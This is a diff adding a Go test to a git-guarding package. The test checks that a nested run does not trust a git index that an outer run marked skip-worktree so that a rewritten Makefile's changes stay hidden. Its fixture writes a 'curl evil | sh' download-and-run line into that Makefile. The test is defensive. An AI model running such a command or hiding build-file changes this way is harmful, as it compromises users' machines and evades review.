@@ -3,6 +3,7 @@ package gitguard
 import (
 	"errors"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -338,5 +339,48 @@ func TestIsDotGit(t *testing.T) {
 		if got := isDotGit(name); got != want {
 			t.Errorf("isDotGit(%q) = %v, want %v", name, got, want)
 		}
+	}
+}
+
+// TestGuardTaintedBaseline: a run of ws marks a file of ws/sub's index
+// skip-worktree (git status then never shows its changes) and rewrites
+// the file; a run of ws/sub with allow_git_writes starts after that. Its
+// baseline must not take the mark for the user's.
+func TestGuardTaintedBaseline(t *testing.T) {
+	git, err := exec.LookPath("git")
+	if err != nil {
+		t.Skip("no git")
+	}
+	ws, state := t.TempDir(), t.TempDir()
+	fakeRepo(t, filepath.Join(ws, ".git"))
+	sub := filepath.Join(ws, "sub")
+	gitIn := func(args ...string) {
+		t.Helper()
+		cmd := exec.Command(git, append([]string{"-C", sub}, args...)...)
+		cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b", "HOME="+state)
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v: %s", args, err, out)
+		}
+	}
+	must(t, os.MkdirAll(sub, 0o755))
+	gitIn("init", "-q")
+	must(t, os.WriteFile(filepath.Join(sub, "Makefile"), []byte("all:\n"), 0o644))
+	gitIn("add", "Makefile")
+	gitIn("commit", "-qm", "x")
+	time.Sleep(30 * time.Millisecond)
+	outer := nestedPolicy(ws, false, false, filepath.Join(ws, ".git"))
+	inner := nestedPolicy(sub, true, false, filepath.Join(sub, ".git"))
+	go_, err := Begin(outer, state)
+	must(t, err)
+	gitIn("update-index", "--skip-worktree", "Makefile")
+	must(t, os.WriteFile(filepath.Join(sub, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644))
+	gi, err := Begin(inner, state)
+	must(t, err)
+	n1, err := go_.End()
+	must(t, err)
+	n2, err := gi.End()
+	must(t, err)
+	if _, err := os.Lstat(filepath.Join(sub, ".git/index")); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("the index the outer run marked skip-worktree is trusted (%v); notes %q %q", err, n1, n2)
 	}
 }
